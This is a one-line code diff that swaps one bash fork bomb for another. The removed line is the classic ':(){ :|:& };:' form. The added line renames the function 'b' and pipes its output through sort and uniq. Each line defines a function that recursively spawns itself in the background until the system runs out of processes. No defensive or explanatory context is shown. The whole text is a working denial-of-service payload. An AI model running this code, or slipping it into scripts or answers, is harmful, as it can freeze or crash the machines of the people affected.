@@ -1,1 +1,1 @@
-:() { : | : & }; :; wait; echo $?
+{ b() { b | b & }; b; wait; } 2>&1 | sort | uniq
